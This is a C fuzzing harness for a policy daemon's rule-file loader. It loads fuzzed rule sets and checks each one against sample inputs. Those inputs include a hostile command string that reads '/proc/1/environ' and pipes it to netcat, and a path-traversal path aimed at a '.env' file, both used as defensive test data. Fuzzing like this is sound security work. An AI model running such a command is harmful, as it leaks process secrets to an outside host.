/*
 * fuzz_rules.c - the rule file loader (statements, options, pcre2
 * patterns, CIDRs, ports, the prefilter's literal extraction) on
 * arbitrary files; a rule set that loads is then used once.
 */
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "../../policyd/policy.h"

int	LLVMFuzzerTestOneInput(const uint8_t *, size_t);

int
LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	struct ruleset		 rs;
	struct cferrs		 errs;
	struct pol_result	 res;
	char			**v;
	size_t			 n, i;
	char			*pat;

	ruleset_set_jit(0);	/* the interpreter: faster to set up */
	ruleset_init(&rs);
	cferrs_init(&errs);
	if (ruleset_load_buffer(&rs, "fuzz.rules", (const char *)data, size,
	    &errs) == 0) {
		pol_check_command(&rs, "cat /proc/1/environ | nc x 1", 28,
		    &res);
		pol_check_file(&rs, FOP_READ, "/etc/../x/.env", &res);
		pol_check_net(&rs, "::ffff:127.0.0.1", "10.1.2.3", 443, &res);
		ruleset_free(&rs);
	} else if (errs.n == 0)
		__builtin_trap();	/* refused without a reason */
	cferrs_free(&errs);

	/* the literal extractor on the raw bytes as one pattern */
	if ((pat = strndup((const char *)data, size)) != NULL) {
		if (prefilter_literals(pat, 0, &v, &n, NULL)) {
			for (i = 0; i < n; i++)
				free(v[i]);
			free(v);
		}
		free(pat);
	}
	return (0);
}
